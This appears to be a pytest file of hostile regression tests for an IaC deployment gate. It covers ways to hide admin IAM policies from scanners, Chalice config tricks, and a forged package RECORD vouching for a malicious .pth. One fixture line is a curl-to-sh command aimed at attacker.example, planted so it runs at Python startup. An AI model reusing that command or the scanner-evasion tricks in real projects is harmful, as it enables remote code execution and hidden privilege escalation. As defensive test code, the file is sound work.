"""An eleventh hostile review of `gate check`: IaC the deploy reads that the gate never
reads (nested stacks, `AWS::Include` snippets, Terraform modules and Serverless
`${file()}` includes kept where a built-in rule ignores them), Chalice projects read
otherwise than Chalice reads them, and package records that vouch for startup code.

Each case was a confirmed problem; the test says what the gate must do, a baseline
beside it shows the same bundle without the trick blocks (or is refused), and its
docstring says what the gate once did (each was also run by hand with the default
policy, checkov on: exit 0 all the same). Fixed by class: every local file the IaC makes
the deploy read (nested templates, `AWS::Include` snippets, module sources, file
variables) is followed or refused, and an `AWS::Include` is inlined where
CloudFormation puts it (gate.bundle.discovery.references); Chalice's config is looked up as
Chalice does and its app is found in any module-level block, or the project refused;
no package record vouches for a `.pth` with an `import` line.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.hostile.conftest import (
    Layout,
    Sandbox,
    assert_refused,
    blocked_or_refused,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review import GOOD_HANDLER
from tests.hostile.test_staging import TEMPLATE, install

# --- 1. IaC the deploy reads from where the gate does not look --------------------------

# A function whose SAM role may do anything (GATE-IAC-001, critical), in a template of
# its own that the root template deploys as a nested stack (`sam deploy` packages a
# local `Location`, whatever the file is called, and deploys it with the root).
ROOT_STACK = """\
AWSTemplateFormatVersion: '2010-09-09'
Transform: AWS::Serverless-2016-10-31
Resources:
  Inner:
    Type: AWS::Serverless::Application
    Properties:
      Location: {location}
"""
NESTED_ADMIN = TEMPLATE.format(code="{code}", handler="app.handler") + (
    "      Policies:\n"
    "        - Statement:\n"
    "            - Effect: Allow\n"
    "              Action: '*'\n"
    "              Resource: '*'\n"
)
NESTED_TRICKS = {
    # A name the gate does not take for IaC: neither the gate's rules nor checkov read
    # it (with checkov on it is even counted `scanned`).
    "unlisted-suffix": ("stacks/nested.txt", "../fn/"),
    # A folder the built-in rules ignore (build output): never copied, never read.
    "ignored-folder": ("cdk.out/nested.yaml", "../fn/"),
}


def nested_stack(sandbox: Sandbox, location: str, code: str) -> None:
    sandbox.write("template.yaml", ROOT_STACK.format(location=location))
    sandbox.write(location, NESTED_ADMIN.format(code=code))
    sandbox.write("fn/app.py", GOOD_HANDLER)


def admin_role_in_a_nested_template(sandbox: Sandbox) -> None:
    """The baseline: the nested template as `stacks/nested.yaml` is read like any
    template: GATE-IAC-001."""
    nested_stack(sandbox, "stacks/nested.yaml", "../fn/")


@pytest.mark.parametrize("trick", sorted(NESTED_TRICKS))
def test_a_nested_template_is_read_wherever_it_is(sandbox: Sandbox, trick: str) -> None:
    """The same nested template named `stacks/nested.txt`, or kept in `cdk.out/`: the
    root template deploys it as it deploys the baseline, and the run passed (exit 0)
    with the admin role unjudged and its function undiscovered."""
    nested_stack(sandbox, *NESTED_TRICKS[trick])
    blocked_or_refused(sandbox.run(policy=None).code)


SAM_INCLUDE = TEMPLATE.format(code="src/", handler="app.handler") + (
    "      Policies:\n"
    "        Fn::Transform:\n"
    "          Name: AWS::Include\n"
    "          Parameters:\n"
    "            Location: ./policies.yaml\n"
)
ADMIN_POLICIES = "- Statement:\n    - Effect: Allow\n      Action: '*'\n      Resource: '*'\n"


def admin_statement_in_sam_policies(sandbox: Sandbox) -> None:
    """The baseline: the statement written in the function's `Policies`: GATE-IAC-001."""
    template = TEMPLATE.format(code="src/", handler="app.handler")
    indented = "".join(f"        {line}\n" for line in ADMIN_POLICIES.splitlines())
    sandbox.write("template.yaml", template + "      Policies:\n" + indented)
    sandbox.write("src/app.py", GOOD_HANDLER)


def an_aws_include_snippet_is_read(sandbox: Sandbox) -> None:
    """The same statement in `policies.yaml`, pulled into `Policies` by the AWS::Include
    transform (`sam deploy` uploads the local Location; CloudFormation inlines it
    before the SAM transform, as for an API's DefinitionBody): exit 0."""
    sandbox.write("template.yaml", SAM_INCLUDE)
    sandbox.write("policies.yaml", ADMIN_POLICIES)
    sandbox.write("src/app.py", GOOD_HANDLER)


TF_ROOT = 'module "fn" {{\n  source = "./{module}"\n}}\n'
TF_MODULE = """\
data "archive_file" "zip" {
  type        = "zip"
  source_dir  = "${path.module}/src"
  output_path = "${path.module}/fn.zip"
}

resource "aws_iam_role" "fn" {
  name               = "fn"
  assume_role_policy = "{}"
}

resource "aws_iam_role_policy" "admin" {
  role   = aws_iam_role.fn.id
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }]
  })
}

resource "aws_lambda_function" "fn" {
  function_name = "fn"
  role          = aws_iam_role.fn.arn
  handler       = "app.handler"
  runtime       = "python3.12"
  filename      = data.archive_file.zip.output_path
}
"""


def terraform_module(sandbox: Sandbox, module: str) -> None:
    sandbox.write("main.tf", TF_ROOT.format(module=module))
    sandbox.write(f"{module}/main.tf", TF_MODULE)
    sandbox.write(f"{module}/src/app.py", GOOD_HANDLER)


def admin_policy_in_a_local_terraform_module(sandbox: Sandbox) -> None:
    """The baseline: a module in `modules/fn` is read as its own directory of `.tf`
    files: GATE-IAC-001."""
    terraform_module(sandbox, "modules/fn")


def a_terraform_module_in_an_ignored_folder_is_read(sandbox: Sandbox) -> None:
    """The same module at `node_modules/fn`: Terraform loads a local module from any
    folder; the run passed (exit 0, the module's function and policy never read)."""
    terraform_module(sandbox, "node_modules/fn")


SLS_CUSTOM_ROLE = """\
service: orders
frameworkVersion: '3'
provider:
  name: aws
  runtime: python3.12
  iam:
    role: AdminRole
functions:
  orders:
    handler: app.handler
resources: ${{file(./{resources})}}
"""
SLS_ADMIN_RESOURCES = """\
Resources:
  AdminRole:
    Type: AWS::IAM::Role
    Properties:
      AssumeRolePolicyDocument:
        Version: '2012-10-17'
        Statement:
          - Effect: Allow
            Principal: {Service: lambda.amazonaws.com}
            Action: sts:AssumeRole
      Policies:
        - PolicyName: admin
          PolicyDocument:
            Version: '2012-10-17'
            Statement:
              - Effect: Allow
                Action: '*'
                Resource: '*'
"""


def serverless_resources(sandbox: Sandbox, resources: str) -> None:
    sandbox.write("serverless.yml", SLS_CUSTOM_ROLE.format(resources=resources))
    sandbox.write(resources, SLS_ADMIN_RESOURCES)
    sandbox.write("app.py", GOOD_HANDLER)


def custom_role_from_a_resources_file(sandbox: Sandbox) -> None:
    """The baseline: `resources: ${file(./res.yml)}` naming the role the provider uses:
    GATE-IAC-001."""
    serverless_resources(sandbox, "res.yml")


def a_resources_file_in_an_ignored_folder_is_read(sandbox: Sandbox) -> None:
    """The same file at `.mypy_cache/res.yml`: the Framework reads it from disk all the
    same; the role was an unknown one and the run passed (exit 0). (Statements included
    this way are judged unreadable, GATE-IAC-004 high: the gate held there.)"""
    serverless_resources(sandbox, ".mypy_cache/res.yml")


# --- 2. Chalice projects ------------------------------------------------------------

CHALICE_APP = (
    "from chalice import Chalice\n\n{create}\n\n\n"
    "@app.route('/')\ndef index():\n    return {{'hello': 'world'}}\n"
)
CREATED = "app = Chalice(app_name='orders')"
CHALICE_CONFIG = (
    '{{"version": "2.0", "app_name": "orders", "autogen_policy": {top},\n'
    ' "stages": {{"dev": {{"api_gateway_stage": "api"{stage}}}}}}}\n'
)
ADMIN_JSON = (
    '{"Version": "2012-10-17", "Statement": '
    '[{"Effect": "Allow", "Action": "*", "Resource": "*"}]}\n'
)


def chalice(sandbox: Sandbox, create: str = CREATED, top: str = "false", stage: str = "") -> None:
    """A Chalice project whose config turns off the generated policy, so Chalice deploys
    `.chalice/policy-dev.json`, which may do anything."""
    sandbox.write("app.py", CHALICE_APP.format(create=create))
    sandbox.write(".chalice/config.json", CHALICE_CONFIG.format(top=top, stage=stage))
    sandbox.write(".chalice/policy-dev.json", ADMIN_JSON)


def chalice_policy_file_that_may_do_anything(sandbox: Sandbox) -> None:
    """The baseline: `autogen_policy: false`: the policy file is judged: GATE-IAC-001."""
    chalice(sandbox)


CHALICE_CONFIG_TRICKS = {
    # Chalice tests `not config.autogen_policy`: 0 turns the generated policy off.
    "zero": {"top": "0"},
    # Chalice's lookup skips a null (`cfg.get(name) is not None`) and goes on to the top
    # level's false; the gate stopped at the stage's null and took it for generated.
    "null-in-stage": {"stage": ', "autogen_policy": null'},
}


def test_a_chalice_config_is_read_as_chalice_reads_it(tmp_path: Path) -> None:
    """`"autogen_policy": 0`, or `false` at the top and `null` in the stage: Chalice
    deploys the policy file as in the baseline; the gate took the policy for generated
    (nothing to judge) and the run passed (exit 0)."""

    def layout(trick: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            chalice(sandbox, **CHALICE_CONFIG_TRICKS[trick])

        return written

    each_blocked_or_refused(
        tmp_path, {trick: layout(trick) for trick in sorted(CHALICE_CONFIG_TRICKS)}
    )


def a_chalice_app_made_inside_a_block_is_a_project(sandbox: Sandbox) -> None:
    """`if True:\\n    app = Chalice(...)`: Chalice imports app.py and finds `app` as in
    the baseline; the gate found no function at all (and warned nothing): exit 0."""
    chalice(sandbox, create="if True:\n    " + CREATED)


# --- 3. Startup code a made-up package record vouches for --------------------------

# Python runs each `import` line of a .pth file in a site folder at every start, before
# the handler (the refusal of gate.bundle.staging.accounting._refuse_startup_pth).
STARTUP_PTH = "import os; os.system('curl -s https://attacker.example/p | sh')\n"


def test_a_startup_pth_in_the_code_is_refused(sandbox: Sandbox) -> None:
    """The baseline: `six` installed (and declared) beside the handler, and a .pth with
    an import line that its RECORD does not list: refused."""
    sandbox.write("template.yaml", TEMPLATE.format(code="src/", handler="app.handler"))
    sandbox.write("src/app.py", GOOD_HANDLER)
    install(sandbox, "src", "six", {"six.py": "'''six'''\n"})
    sandbox.write("src/six-init.pth", STARTUP_PTH)
    assert_refused(sandbox.run(), "six-init.pth")


def a_made_up_record_does_not_vouch_for_a_startup_pth(sandbox: Sandbox) -> None:
    """The same .pth listed, with its true hash, by the RECORD the bundle wrote for the
    declared `six`: counted third-party (`six 1.0`, 4 files) and the run passed (exit
    0), though the record may not vouch for a module `helper.py` (`foreign-module`)."""
    sandbox.write("template.yaml", TEMPLATE.format(code="src/", handler="app.handler"))
    sandbox.write("src/app.py", GOOD_HANDLER)
    install(sandbox, "src", "six", {"six.py": "'''six'''\n", "six-init.pth": STARTUP_PTH})


# --- the baselines, in one run ----------------------------------------------------------

# name: (the bundle, the rule of its blocking finding)
BASELINES: dict[str, tuple[Layout, str]] = {
    "admin-role-in-a-nested-template": (admin_role_in_a_nested_template, "GATE-IAC-001"),
    "admin-statement-in-sam-policies": (admin_statement_in_sam_policies, "GATE-IAC-001"),
    "admin-policy-in-a-local-terraform-module": (
        admin_policy_in_a_local_terraform_module, "GATE-IAC-001"),
    "custom-role-from-a-resources-file": (custom_role_from_a_resources_file, "GATE-IAC-001"),
    "chalice-policy-file-that-may-do-anything": (
        chalice_policy_file_that_may_do_anything, "GATE-IAC-001"),
}  # fmt: skip


def test_the_baselines_block(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: each blocks, its finding on the rule
    named beside it."""
    each_blocks(tmp_path, BASELINES)


def test_each_trick_is_blocked_or_refused(tmp_path: Path) -> None:
    """The single tricks above, in one run: none of them passes."""
    each_blocked_or_refused(
        tmp_path,
        {
            "aws-include-snippet": an_aws_include_snippet_is_read,
            "terraform-module-in-an-ignored-folder": (
                a_terraform_module_in_an_ignored_folder_is_read
            ),
            "resources-file-in-an-ignored-folder": a_resources_file_in_an_ignored_folder_is_read,
            "chalice-app-made-inside-a-block-is-a-project": (
                a_chalice_app_made_inside_a_block_is_a_project
            ),
            "made-up-record-does-not-vouch-for-a-startup-pth": (
                a_made_up_record_does_not_vouch_for_a_startup_pth
            ),
        },
    )
